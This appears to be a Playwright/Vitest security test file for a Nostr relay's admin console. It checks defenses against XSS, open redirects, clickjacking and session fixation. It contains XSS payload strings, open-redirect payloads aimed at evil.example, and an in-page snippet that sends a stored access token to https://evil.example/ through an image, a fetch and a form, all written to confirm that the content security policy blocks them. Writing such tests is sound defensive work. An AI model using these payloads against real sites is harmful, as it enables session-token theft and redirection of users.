import { finalizeEvent } from 'nostr-tools/pure'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { openBrowser } from '../../dev/browser.ts'
import { callRelay, claimByCalls } from '../support/calls.ts'
import { newOperator, type OpenRelay, startRelay } from '../support/world.ts'

const operator = newOperator()
const script = `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`

let relay: OpenRelay
let browser: Browser
let session: { token: string; user: object }
let context: BrowserContext
let page: Page

const post = (path: string, body: object) => callRelay(relay, path, { body })

/** Puts a session into the browser, as an attacker with access to its storage might. */
const plant = (token: string, user: object) =>
  page.evaluate(
    ([token, user]) => {
      localStorage.setItem('accessToken', token as string)
      localStorage.setItem('user', user as string)
    },
    [token, JSON.stringify(user)],
  )

beforeAll(async () => {
  ;[relay, browser] = await Promise.all([startRelay(), openBrowser()])
  const token = await claimByCalls(relay, operator)
  const said = { firstName: script, lastName: script, userName: script, city: script }
  const { user } = (await callRelay(relay, '/api/account/profile', { body: said, token })) as { user: object }
  session = { token, user }
  await callRelay(relay, '/api/blocked-pubkeys', { body: { pubkey: newOperator().pubkey, reason: script }, token })
  context = await browser.newContext({ locale: 'en-US' })
  page = await context.newPage()
})
afterAll(async () => {
  await browser?.close()
  await relay?.stop()
})

describe('an open redirect by the remembered origin', () => {
  // api/calls/origin.test.ts knows more of them.
  const usual = ['javascript:document.title="owned"', '/\\evil.example/', '/..//evil.example/']
  const others = [
    '//evil.example/',
    '/\t/evil.example/',
    'https://evil.example/',
    '%2f%2fevil.example/',
    '/%2f%2fevil.example/',
    '/%5cevil.example/',
  ]
  test.each(process.env.THOROUGH ? [...usual, ...others] : usual)('%j stays in the console', async origin => {
    await page.goto(`${relay.adminUrl}/mark.svg`)
    await plant(session.token, session.user)
    await page.evaluate(path => sessionStorage.setItem('origin', path), origin)
    await page.goto(`${relay.adminUrl}/auth/login`).catch(() => null)
    await page.waitForURL(url => !url.pathname.startsWith('/auth/'))
    expect([new URL(page.url()).origin, await page.title()]).toEqual([
      relay.adminUrl,
      expect.not.stringMatching('owned'),
    ])
  })
})

test('token theft by a script in a profile or a reason: it is shown as text, on the lock too, and the policy would stop it', async () => {
  await page.goto(`${relay.adminUrl}/mark.svg`)
  await plant(session.token, session.user)
  await page.goto(`${relay.adminUrl}/blocked-pubkeys`)
  await page.getByText(script).filter({ visible: true }).first().waitFor()
  await page.getByRole('button', { name: 'Profile menu' }).click()
  await page.getByRole('menu').getByText(script).filter({ visible: true }).first().waitFor()
  await page.goto(`${relay.adminUrl}/profile/personal-info`)
  await page.getByRole('heading', { level: 1 }).first().waitFor()
  await page.goto(`${relay.adminUrl}/auth/lock`)
  await page.getByText(script).filter({ visible: true }).first().waitFor()
  expect(await page.title()).not.toBe('owned')
  const refused = await page.evaluate(
    markup =>
      new Promise<string[]>(resolve => {
        const seen: string[] = []
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          seen.push(effectiveDirective)
          if (seen.length === 5) resolve(seen.sort())
        })
        const place = document.body.appendChild(document.createElement('div'))
        place.innerHTML = markup
        const inline = document.createElement('script')
        inline.textContent = "document.title='owned'"
        place.append(inline)
        const foreign = document.createElement('img')
        foreign.src = `https://evil.example/?${localStorage.getItem('accessToken')}`
        place.append(foreign)
        fetch(foreign.src).catch(() => undefined)
        const form = document.createElement('form')
        form.action = foreign.src
        place.append(form)
        form.submit()
      }),
    script,
  )
  expect([refused, await page.title()]).toEqual([
    ['connect-src', 'form-action', 'img-src', 'script-src-attr', 'script-src-elem'],
    expect.not.stringMatching('owned'),
  ])
  await page.evaluate(() => localStorage.removeItem('locked'))
})

test('clickjacking: no document of the console lets itself be framed', async () => {
  const frames = ['/', '/auth/login', '/auth/lock', '/auth/sign-up', '/wallet', '/logout']
  await page.setContent(frames.map(path => `<iframe src="${relay.adminUrl}${path}"></iframe>`).join(''))
  for (const path of frames) {
    const answer = await fetch(relay.adminUrl + path, { headers: { accept: 'text/html' } })
    expect(answer.headers.get('content-security-policy'), path).toContain("frame-ancestors 'none'")
  }
  await expect
    .poll(() =>
      page
        .frames()
        .slice(1)
        .map(frame => frame.url()),
    )
    .toEqual(frames.map(() => 'chrome-error://chromewebdata/'))
})

test('session fixation: ignores a planted token, and creates a new one at sign-in', async () => {
  await page.goto(`${relay.adminUrl}/mark.svg`)
  await plant('planted-by-somebody', session.user)
  await page.goto(`${relay.adminUrl}/blocked-pubkeys`, { waitUntil: 'commit' })
  await page.waitForURL('**/auth/login')
  await page.getByText('Authentication failed. You have been logged out.').waitFor()
  expect(await page.evaluate(() => [localStorage.getItem('accessToken'), localStorage.getItem('user')])).toEqual([
    null,
    null,
  ])
  const { npub, password } = { npub: operator.pubkey, password: operator.password }
  const { event } = (await post('/login', { npub, password })) as { event: Parameters<typeof finalizeEvent>[0] }
  const signed = finalizeEvent(event, operator.secretKey)
  const body = {
    challenge: signed.content,
    signature: signed.sig,
    messageHash: signed.id,
    event: signed,
    token: 'planted',
  }
  const { token } = (await post('/verify', body)) as { token: string }
  expect([token === 'planted', token === session.token, token.length > 30]).toEqual([false, false, true])
})
